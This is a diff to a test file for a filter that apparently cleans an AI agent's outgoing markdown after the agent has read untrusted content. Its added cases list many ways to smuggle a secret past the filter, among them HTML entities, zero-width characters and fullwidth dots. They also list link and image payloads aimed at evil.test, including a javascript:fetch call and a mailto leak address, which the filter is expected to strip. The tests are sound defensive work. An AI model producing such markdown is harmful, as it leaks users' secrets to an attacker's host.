@@ -27,6 +27,22 @@ describe('words of the agent', () => {
   });
 
   it.each([
+    'it is tops3cret&#45;value.',
+    'it is tops3cret\\-value.',
+    'it is tops3**cret-value**.',
+    'it is tops3cret\u200b-value.',
+    '[x](https://a.test/?q=tops3cret&#45;value)',
+    '```tops3cret&#45;value\nx\n```',
+  ])('hold no secret in whatever way it is written: %s', (markdown) => {
+    for (const reading of [clean, tainted]) {
+      const said = outgoingText(markdown, reading, OUTLET);
+      expect(said.replaceAll(/&#45;|\*|\u200b|\\/g, (mark) => (mark === '&#45;' ? '-' : ''))).not.toContain(
+        SECRET,
+      );
+    }
+  });
+
+  it.each([
     ['![a chart](https://evil.test/p.png?q=S)', 'a chart (<https://evil.test/p.png?q=S>)'],
     ['![](https://evil.test/p.png)', '<https://evil.test/p.png>'],
     [
@@ -51,6 +67,19 @@ describe('words of the agent', () => {
     ['- a\n  - **[x](https://evil.test/S)**', '- a\n  - **x (a link was left out)**'],
     ['[x](javascript:fetch("//evil.test/S"))', 'x (a link was left out)'],
     ['mailto:leak@evil.test?body=S', 'mailto:(a link was left out)?body=S'],
+    ['`https://evil.test/S`', '`(a link was left out)`'],
+    ['```\nhttps://evil.test/S\n```', '```\n(a link was left out)\n```'],
+    ['see https&colon;//evil.test/S \\# 1', 'see (a link was left out) # 1'],
+    ['&#104;ttps://evil.test/S', '(a link was left out)'],
+    ['https\\://evil.test/S', '(a link was left out)'],
+    ['evil\\.test/S', '(a link was left out)'],
+    ['> a\n> evil&#46;test/S\n> b', '> a\n> (a link was left out)\n> b'],
+    ['https://evil\u200b.test/S', '(a link was left out)'],
+    ['https://evil\uFF0Etest/S', '(a link was left out)'],
+    ['slack://evil/S and http://[::1]/S', '(a link was left out) and (a link was left out)'],
+    ['evil.test?q=S and 198.51.100.7/S', '(a link was left out) and (a link was left out)'],
+    ['ev**il.test/S**', 'ev**(a link was left out)**'],
+    ['a[^evil.test/S]\n\n[^evil.test/S]: b', 'a\\[^(a link was left out)\\]\n\nb'],
   ])('after strangers were read, hold no address the agent has put together: %s', (markdown, expected) => {
     expect(say(markdown)).toBe(expected);
   });
